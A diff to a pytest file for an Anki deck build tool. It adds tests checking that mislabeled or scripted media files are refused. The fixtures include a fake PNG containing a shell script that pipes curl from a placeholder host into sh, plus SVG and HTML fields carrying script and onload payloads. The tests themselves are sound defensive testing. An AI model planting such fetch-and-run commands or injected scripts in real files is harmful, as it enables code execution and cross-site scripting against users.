@@ -23,8 +23,9 @@ from typing import Any
 
 import pytest
 import yaml
+from images import png
 
-IMAGE = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4
+IMAGE = png(9, 16, 16)
 HOSTILE_FIELD = '<b>bold</b><script>alert(1)</script><img src="cat.png" onerror="alert(2)"><img src="https://example.com/x.png">'
 
 
@@ -473,6 +474,39 @@ def test_a_deck_the_build_would_refuse_is_refused_whole(tmp_path: Path) -> None:
     (source / "deck.json").write_text(json.dumps(deck))
     stderr = _refused(source, tmp_path, "E262", "the adopted project does not build, so nothing was written")
     assert "notetypes/country/card-1-back.html" in stderr and "Capitl" in stderr
+
+
+SHELL_SCRIPT = b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\n"
+SCRIPTED_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
+
+
+def test_media_files_a_build_would_refuse_are_listed_and_nothing_is_written(tmp_path: Path) -> None:
+    """Files are refused by content, each named with why; fields with script are sanitized, not refused (E260)."""
+    source = crowdanki_folder(tmp_path / "Geo")
+    (source / "media" / "japan.png").write_bytes(SHELL_SCRIPT)
+    (source / "media" / "map.svg").write_bytes(SCRIPTED_SVG)
+    deck = json.loads((source / "deck.json").read_text())
+    deck["notes"][0]["fields"][2] = '<img src="map.svg">'
+    (source / "deck.json").write_text(json.dumps(deck))
+    stderr = _refused(source, tmp_path, "E278", "2 media file(s) are not what their names say")
+    assert "'japan.png': E270 expected PNG image data (the name ends in .png); got a script beginning '#!/bin/sh'" in stderr
+    assert "'map.svg': E275 onload= on <svg>" in stderr and "E275 <script> element" in stderr
+    assert len(stderr.splitlines()) == 1, stderr
+
+
+def test_a_package_with_a_fake_image_is_refused(tmp_path: Path) -> None:
+    from ankiutil import new_collection
+
+    col = new_collection(tmp_path / "anki")
+    try:
+        (Path(col.media.dir()) / "fake.png").write_bytes(SHELL_SCRIPT)
+        note = col.new_note(col.models.by_name("Basic"))
+        note["Front"], note["Back"] = "A picture?", '<img src="fake.png">'
+        col.add_note(note, col.decks.id("Pics"))
+        package = export(col, tmp_path / "pics.apkg", legacy=False, deck="Pics")
+    finally:
+        col.close()
+    _refused(package, tmp_path, "E278", "'fake.png': E270 expected PNG image data")
 
 
 def test_broken_crowdanki_folders_are_refused(tmp_path: Path) -> None:
